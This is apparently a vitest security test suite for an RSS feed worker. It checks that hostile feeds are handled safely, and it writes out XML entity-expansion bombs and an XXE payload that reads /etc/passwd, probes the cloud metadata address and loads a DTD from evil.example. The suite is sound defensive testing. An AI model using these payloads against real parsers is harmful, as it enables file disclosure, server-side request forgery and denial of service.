// Hostile feed bodies through the real scheduled handler: each is a recorded per-feed error or handled, never a crash,
// never a corrupted stored version, and the tick finishes within a bound.
import { describe, expect, it, vi } from 'vitest'
import { addFeed, api, env, json, tick } from '../support/worker'
import { feedResponder, freshWorldEachTest, type Responder } from '../support/fake-network'
import { FEED_URL, plainItem, repeatedBody, rss } from '../support/hostile-feeds'

const MIN = 60_000
const T0 = Date.UTC(2030, 0, 7, 9, 0, 0)
const T1 = T0 + 5 * MIN
/** Feed byte cap (src/config/settings.ts MAX_FEED_BYTES). */
const MAX_FEED_BYTES = 5 * 1024 * 1024
/** A hostile tick must finish within this (wall clock, local workerd); a normal one takes milliseconds. */
const TICK_BOUND_MS = 10_000
/** Stored field caps (src/articles/normalise-item.ts). */
const MAX_TITLE_LENGTH = 1_000
const MAX_CONTENT_LENGTH = 200_000
const MAX_SUMMARY_LENGTH = 20_000

const GOOD = [plainItem(1), plainItem(2)].join('')

interface FeedItem {
  id: string
  status: { lastError: { code: string; message: string } | null; consecutiveFailures: number }
}
interface ArticleSummary {
  id: string
  url: string
  title: string
  versionCount: number
}
interface Article extends ArticleSummary {
  latest: { title: string; summary: string; content: string; contentHash: string; guid: string | null; author: string | null }
}

const network = freshWorldEachTest({ quietLogs: true })

async function articles(): Promise<Article[]> {
  const list = (await json<{ items: ArticleSummary[] }>(await api('/api/articles?limit=100'))).items
  return Promise.all(list.map(async (a) => json<Article>(await api(`/api/articles/${a.id}`))))
}

interface HostileRun {
  error: { code: string; message: string } | null
  tickMs: number
  stored: Article[]
}

/**
 * Stores a good two-item feed with a first tick, then serves `hostile` and ticks again. Asserts what every hostile
 * input must keep: the tick resolves within the bound and the good articles' stored versions are untouched.
 */
async function hostileTick(hostile: Responder, bound = TICK_BOUND_MS): Promise<HostileRun> {
  let serveHostile = false
  const good = feedResponder(() => rss(GOOD))
  network.serve(FEED_URL, (request) => (serveHostile ? hostile(request) : good(request)))
  const feedId = await addFeed(FEED_URL)
  await tick(T0)
  const before = await articles()
  expect(before).toHaveLength(2)

  serveHostile = true
  const started = Date.now()
  await tick(T1)
  const tickMs = Date.now() - started
  expect(tickMs).toBeLessThan(bound)

  const stored = await articles()
  for (const original of before) {
    const now = stored.find((a) => a.id === original.id)
    expect(now?.versionCount, `good article ${original.url}`).toBe(1)
    expect(now?.latest.contentHash).toBe(original.latest.contentHash)
  }
  for (const a of stored) {
    expect(a.latest.title.length).toBeLessThanOrEqual(MAX_TITLE_LENGTH)
    expect(a.latest.summary.length).toBeLessThanOrEqual(MAX_SUMMARY_LENGTH)
    expect(a.latest.content.length).toBeLessThanOrEqual(MAX_CONTENT_LENGTH)
  }
  const feed = (await json<{ items: FeedItem[] }>(await api('/api/feeds'))).items.find((f) => f.id === feedId)
  const error = feed?.status.lastError ?? null
  // `internal` is what refreshFeed records when something threw: a crash, not a handled input.
  expect(error?.code, error?.message).not.toBe('internal')
  return { error, tickMs, stored }
}

const text = (body: string | Uint8Array, contentType = 'application/rss+xml; charset=utf-8'): Responder => () => new Response(body, { headers: { 'content-type': contentType } })
const newArticles = (run: HostileRun): Article[] => run.stored.filter((a) => !/\/news\/[12]$/.test(a.url))

describe('XML entity attacks', () => {
  it('does not expand a billion-laughs DTD: the entity reference stays literal and small', async () => {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('')
    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">${lols}]>` + rss(`${GOOD}<item><title>&lol9;</title><guid>https://news.example.com/news/lol</guid><description>&lol9;&lol9;</description></item>`).replace(/^<\?xml[^>]*\?>/, '')
    const run = await hostileTick(text(xml))
    expect(run.error).toBeNull()
    const [lol] = newArticles(run)
    expect(lol?.latest.title).toBe('&lol9;')
    expect(JSON.stringify(run.stored)).not.toContain('lollol')
  })

  it('does not expand a quadratic blow-up entity (a 50 KB entity referenced 20,000 times)', async () => {
    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "${'x'.repeat(50_000)}">]>` + rss(`${GOOD}<item><title>${'&a;'.repeat(20_000)}</title><guid>https://news.example.com/news/quad</guid><description>${'&a;'.repeat(20_000)}</description></item>`).replace(/^<\?xml[^>]*\?>/, '')
    const run = await hostileTick(text(xml))
    expect(run.error).toBeNull()
    const [quad] = newArticles(run)
    expect(quad?.latest.title.startsWith('&a;&a;')).toBe(true)
    expect(JSON.stringify(run.stored)).not.toContain('x'.repeat(100))
  })

  it('does not resolve external entities or an external DTD (XXE): no file is read and no request leaves', async () => {
    const xml =
      `<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/feed.dtd" [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/"><!ENTITY % remote SYSTEM "http://evil.example/p.dtd">%remote;]>` +
      rss(`${GOOD}<item><title>&xxe;</title><guid>https://news.example.com/news/xxe</guid><description>&ssrf;</description></item>`).replace(/^<\?xml[^>]*\?>/, '')
    const run = await hostileTick(text(xml))
    expect(network.requests.map((r) => r.url)).toEqual([FEED_URL, FEED_URL])
    expect(JSON.stringify(run.stored)).not.toMatch(/root:|ami-id/)
    expect(run.error).toBeNull()
    expect(newArticles(run).map((a) => a.latest.title)).toEqual(['&xxe;'])
  })
})

describe('XML structure attacks', () => {
  it('records elements nested 100,000 deep inside an item as a per-feed error (the parser runs out of stack)', async () => {
    const deep = `<item><title>Deep</title><guid>https://news.example.com/news/deep</guid><description>${'<x>'.repeat(100_000)}deep text${'</x>'.repeat(100_000)}</description></item>`
    const run = await hostileTick(text(rss(GOOD + deep)))
    // xml2js builds the tree recursively: the RangeError is caught by parseFeed and recorded, not thrown.
    expect(run.error?.code).toBe('malformed_xml')
    expect(newArticles(run)).toEqual([])
  })

  it('handles elements nested 100,000 deep around the channel', async () => {
    const run = await hostileTick(text(`<rss version="2.0">${'<channel>'.repeat(100_000)}${'</channel>'.repeat(100_000)}</rss>`))
    if (run.error) expect(run.error.code).toMatch(/^(malformed_xml|not_a_feed)$/)
    expect(newArticles(run)).toEqual([])
  })

  it('stops reading a 50 MB single text node at the 5 MB cap and records too_large', async () => {
    const body = repeatedBody(`<?xml version="1.0"?><rss version="2.0"><channel><title>`, 'A', 50 * 1024 * 1024, '</title></channel></rss>')
    const run = await hostileTick(() => new Response(body.stream, { headers: { 'content-type': 'application/rss+xml' } }))
    expect(run.error?.code).toBe('too_large')
    expect(body.sent()).toBeLessThan(MAX_FEED_BYTES + 256 * 1024)
  })

  it('handles attributes of megabytes within the byte cap', async () => {
    const item = `<item><title>Wide</title><guid isPermaLink="false" data-x="${'x'.repeat(2 * 1024 * 1024)}">https://news.example.com/news/wide</guid><enclosure url="https://news.example.com/${'a'.repeat(1024 * 1024)}" type="image/jpeg" length="1"/><link>https://news.example.com/news/wide</link></item>`
    const run = await hostileTick(text(rss(GOOD + item)))
    expect(run.error).toBeNull()
    expect(newArticles(run).map((a) => [a.latest.title, a.url])).toEqual([['Wide', 'https://news.example.com/news/wide']])
  })

  it('handles a guid of a megabyte: not an identifier, so the item falls back to its link and stores no guid', async () => {
    const item = `<item><title>Long guid</title><guid>${'g'.repeat(1024 * 1024)}</guid><link>https://news.example.com/news/long-guid</link></item>`
    const run = await hostileTick(text(rss(GOOD + item)))
    expect(run.error).toBeNull()
    const [long] = newArticles(run)
    expect(long?.url).toBe('https://news.example.com/news/long-guid')
    expect(long?.latest.guid).toBeNull()
  })
})

describe('bytes and encodings', () => {
  const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s)
  const join = (...parts: (string | number[])[]): Uint8Array => {
    const chunks = parts.map((p) => (typeof p === 'string' ? utf8(p) : Uint8Array.from(p)))
    const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0))
    let at = 0
    for (const c of chunks) {
      out.set(c, at)
      at += c.length
    }
    return out
  }
  const [head = '', tail = ''] = rss(`${GOOD}@@`).split('@@')

  it('replaces invalid UTF-8 bytes with U+FFFD instead of failing the feed', async () => {
    const body = join(head, '<item><title>Bad ', [0xc3, 0x28, 0xa0, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe], ' bytes</title><guid>https://news.example.com/news/bad</guid></item>', tail)
    const run = await hostileTick(text(body))
    expect(run.error).toBeNull()
    const [bad] = newArticles(run)
    expect(bad?.latest.title).toMatch(/^Bad .*\uFFFD.* bytes$/)
  })

  it('records a UTF-8 feed behind a UTF-16LE byte order mark as malformed, storing nothing from it', async () => {
    const run = await hostileTick(text(join([0xff, 0xfe], rss(GOOD))))
    // Decoded as UTF-16LE (the BOM wins, as WHATWG Encoding says), the UTF-8 document is CJK noise: recorded, never stored.
    expect(run.error?.code).toBe('malformed_xml')
    expect(newArticles(run)).toEqual([])
  })

  it.each([
    ['C0 control characters', [0x01, 0x02, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x1f]],
    ['a NUL byte', [0x00]],
    ['C1 control characters (UTF-8 encoded)', [0xc2, 0x80, 0xc2, 0x9f]],
  ])('stores a title carrying %s without them', async (_name, bytes) => {
    const body = join(head, '<item><title>Ctrl ', bytes, ' chars</title><guid>https://news.example.com/news/ctrl</guid><description>x', bytes, 'y</description></item>', tail)
    const run = await hostileTick(text(body))
    expect(run.error).toBeNull()
    const [ctrl] = newArticles(run)
    expect(ctrl?.latest.title).toBe('Ctrl chars')
    // VT and FF are whitespace, so they may leave one space; the rest vanish.
    expect(ctrl?.latest.summary).toMatch(/^x ?y$/)
    for (const a of run.stored) expect(a.latest.title + a.latest.summary + a.latest.content).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u0080-\u009F]/)
  })

  it('decodes a feed mixing UTF-8 and windows-1252 items by the declared charset, without failing', async () => {
    const body = join(
      `<?xml version="1.0" encoding="utf-8"?>`,
      rss(`${GOOD}<item><title>Caf\u00e9 in UTF-8</title><guid>https://news.example.com/news/u8</guid></item>@@`).replace(/^<\?xml[^>]*\?>/, '').split('@@')[0] ?? '',
      '<item><title>Caf', [0xe9], ' in windows-1252 ', [0x93, 0x71, 0x94], '</title><guid>https://news.example.com/news/w1252</guid></item>',
      tail,
    )
    const run = await hostileTick(text(body, 'application/rss+xml'))
    expect(run.error).toBeNull()
    const titles = newArticles(run).map((a) => a.latest.title).sort()
    expect(titles).toEqual(['Caf\u00e9 in UTF-8', 'Caf\uFFFD in windows-1252 \uFFFDq\uFFFD'])
  })

  it('decodes a Content-Type charset that contradicts the bytes without failing', async () => {
    const body = utf8(rss(`${GOOD}<item><title>Z\u00fcrich \u2014 \u65e5\u672c</title><guid>https://news.example.com/news/mojibake</guid></item>`))
    const run = await hostileTick(text(body, 'application/rss+xml; charset=iso-8859-1'))
    expect(run.error).toBeNull()
    expect(newArticles(run)[0]?.latest.title).toBe('Z\u00c3\u00bcrich \u00e2\u20ac\u201d \u00e6\u2014\u00a5\u00e6\u0153\u00ac')
  })
})

/** KV that throws past `limit` operations, as the platform does (Workers KV: 1,000 operations per invocation). */
function kvWithOperationLimit(kv: KVNamespace, limit: number): { kv: KVNamespace; operations: () => number } {
  let operations = 0
  const limited = new Proxy(kv, {
    get(target, prop, receiver) {
      const value: unknown = Reflect.get(target, prop, receiver)
      if (typeof value !== 'function') return value
      return (...args: unknown[]) => {
        if (++operations > limit) throw new Error('Too many API requests by single worker invocation.')
        return (value as (...a: unknown[]) => unknown).apply(target, args)
      }
    },
  })
  return { kv: limited, operations: () => operations }
}

describe('a valid feed of 100,000 items', () => {
  // Measured in local workerd before the per-feed item cap: 1,000 items took 6.0 s, 5,000 took 28.8 s and 100,000 took
  // 416 s, with 100,004 KV reads and 200,001 writes in one invocation. Now the top 500 items are read (MAX_ITEMS_PER_FEED)
  // and item work stops inside the platform's 1,000 KV operations, the rest waiting for the next tick.
  it('finishes the tick within the 1,000 KV operations of one invocation and stores a bounded number of articles', async () => {
    vi.spyOn(console, 'log').mockImplementation(() => undefined)
    const items = Array.from({ length: 100_000 }, (_, i) => `<item><guid>${i}</guid><title>t${i}</title></item>`).join('')
    const body = rss(items)
    expect(body.length).toBeLessThan(MAX_FEED_BYTES)
    network.serve(FEED_URL, feedResponder(() => body))
    const feedId = await addFeed(FEED_URL)
    const limited = kvWithOperationLimit(env.STORE, 1_000)
    const started = Date.now()
    await tick(T0, { STORE: limited.kv })
    expect(Date.now() - started).toBeLessThan(60_000)
    const feed = (await json<{ items: FeedItem[] }>(await api('/api/feeds'))).items.find((f) => f.id === feedId)
    expect(feed?.status.lastError?.code).not.toBe('internal')
    const health = await json<{ lastTick: { articlesNew: number } | null }>(await api('/api/health'))
    expect(health.lastTick?.articlesNew).toBeGreaterThan(0)
    expect(health.lastTick?.articlesNew).toBeLessThanOrEqual(500)
  }, 120_000)
})
